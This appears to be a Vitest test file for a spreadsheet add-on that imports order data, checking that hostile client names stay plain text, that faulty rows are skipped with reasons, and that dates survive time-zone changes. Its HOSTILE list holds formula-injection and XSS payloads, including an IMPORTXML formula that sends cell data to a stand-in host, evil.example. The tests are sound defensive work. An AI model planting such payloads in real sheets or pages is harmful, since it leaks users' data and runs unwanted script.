import { describe, expect, it } from 'vitest';
import { noAnswers } from '../../../../src/core/orders/noAnswers';
import { pickOf } from '../../../core/orders/pickOf';
import { callServer } from '../../callServer';
import { cellAt, rowsOf } from '../../columnOf';
import { openText } from '../../openFile';
import { clientsRequest, ORDERS } from '../../orders';

const HOSTILE = [
  '=IMPORTXML("http://evil.example/?d="&A2;"//a")',
  '=1+1',
  '+48 600 100 200',
  '-2',
  '@SUM(A1)',
  "'cytat",
  "''dwa",
  '＝1+1',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '#12',
  '01234',
  '1/2',
  '5%',
  'TRUE',
  'Ж'.repeat(500),
  'ש לום',
];

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const orders = ['Data;Klient;Kwota', ...HOSTILE.map((name, i) => `05.01.2026;${quoted(name)};${1000 - i}`)].join('\n');

describe.each(['consumed', 'kept'] as const)(
  'clients with hostile names, where a guard in plain text is %s',
  apostropheInText => {
    it('stand in the sheet as the very text they are, and no formula is born', async () => {
      const workbook = await openText(orders, 'pl_PL', { apostropheInText });
      const source = clientsRequest(workbook);
      callServer(workbook, 'createClients', source);
      const names = () => rowsOf(workbook, 'Klienci', ['client'], HOSTILE.length + 1).flat();
      const place = (row: number) => cellAt(workbook, 'Klienci', 'client', row);
      expect(names()).toEqual([...HOSTILE, '']);
      expect(HOSTILE.map((_, row) => workbook.formula('Klienci', place(row))).filter(Boolean)).toEqual([]);

      callServer(workbook, 'createClients', source);
      expect(names()).toEqual([...HOSTILE, '']);
      expect(HOSTILE.map((_, row) => workbook.formula('Klienci', place(row))).filter(Boolean)).toEqual([]);
      expect(callServer(workbook, 'loadProfile').clients.map(({ client }) => client)).toEqual(HOSTILE);
    });
  },
);

describe('faulty order lines', () => {
  it('are left out and told by reason and row, all others count', async () => {
    const workbook = await openText(
      [
        'Data;Klient;Kwota;Zysk',
        '05.01.2026;Alfa;100;10',
        'wczoraj;Alfa;100;10',
        ';Alfa;100;10',
        '06.01.2026;;100;10',
        '06.01.2026;#N/A;100;10',
        '06.01.2026;Beta;dużo;10',
        '06.01.2026;Beta;;10',
        '06.01.2026;Beta;50;?',
        '06.01.2126;Beta;50;5',
        '07.01.2026;Beta;50;',
      ].join('\n'),
      'pl_PL',
    );
    const { sheetId } = callServer(workbook, 'findOrders')[0]!;
    const preview = callServer(workbook, 'previewOrders', {
      sheetId,
      columns: pickOf({ day: 0, client: 1, amount: 2, profit: 3 }),
      headers: ['Data', 'Klient', 'Kwota', 'Zysk'],
      answers: noAnswers,
    });
    expect(preview).toMatchObject({ orders: 2, clients: 2, revenue: 150 });
    expect(preview.skipped).toEqual([
      { reason: 'badDay', count: 1, rows: [3], cells: ['wczoraj'] },
      { reason: 'noDay', count: 1, rows: [4], cells: [''] },
      { reason: 'noClient', count: 1, rows: [5], cells: [''] },
      { reason: 'badClient', count: 1, rows: [6], cells: ['#N/A'] },
      { reason: 'badAmount', count: 1, rows: [7], cells: ['dużo'] },
      { reason: 'noAmount', count: 1, rows: [8], cells: [''] },
      { reason: 'badProfit', count: 1, rows: [9], cells: ['?'] },
      { reason: 'futureDay', count: 1, rows: [10], cells: [''] },
    ]);
  });

  it('are told by their reasons where none is left, and nothing is made of them', async () => {
    const workbook = await openText('Data;Klient;Kwota\nwczoraj;Alfa;100', 'pl_PL');
    const { sheetId } = callServer(workbook, 'findOrders')[0]!;
    const columns = pickOf({ day: 0, client: 1, amount: 2 });
    const source = { sheetId, columns, headers: ['Data', 'Klient', 'Kwota'], answers: noAnswers };
    const { orders, skipped, print } = callServer(workbook, 'previewOrders', source);
    expect([orders, skipped]).toEqual([0, [{ reason: 'badDay', count: 1, rows: [2], cells: ['wczoraj'] }]]);
    const request = { ...source, sheetName: null, print, gone: 'keep', log: false, asOfEnd: false } as const;
    expect(() => callServer(workbook, 'createClients', request)).toThrow(
      'Żaden wiersz arkusza „orders” nie ma daty, klienta i kwoty. Sprawdź wybrane kolumny.',
    );
    expect(() => callServer(workbook, 'previewOrders', { ...source, columns: { ...columns, day: null } })).toThrow(
      'Wybierz kolumny z datą, klientem i kwotą.',
    );
    expect(() => callServer(workbook, 'previewOrders', { ...source, columns: { ...columns, amount: 0 } })).toThrow(
      'Jedna kolumna nie może wystąpić dwa razy',
    );
    expect(() => callServer(workbook, 'previewOrders', { ...source, sheetId: 999 })).toThrow('Tego arkusza nie ma już');
  });
});

describe('days', () => {
  it.each(['Europe/Warsaw', 'Europe/Moscow', 'America/Los_Angeles', 'Pacific/Auckland'])(
    'do not shift where the spreadsheet lives in %s',
    async timeZone => {
      const opened = await openText(ORDERS, 'ru_RU');
      const { createWorkbook } = await import('../../../../src/workbook/createWorkbook');
      const { builtFiles } = await import('../../openFile');
      const workbook = createWorkbook({ files: builtFiles(), snapshot: { ...opened.snapshot(), timeZone } });
      callServer(workbook, 'createClients', clientsRequest(workbook));
      const place = (key: string) => cellAt(workbook, 'Клиенты', key, 0);
      expect(workbook.display('Клиенты', place('firstDay'))).toBe('05.01.2026');
      expect(workbook.display('Клиенты', place('lastDay'))).toBe('04.02.2026');
      expect(workbook.cell('Клиенты', place('usualGapDays'))).toBe(30);
    },
  );
});
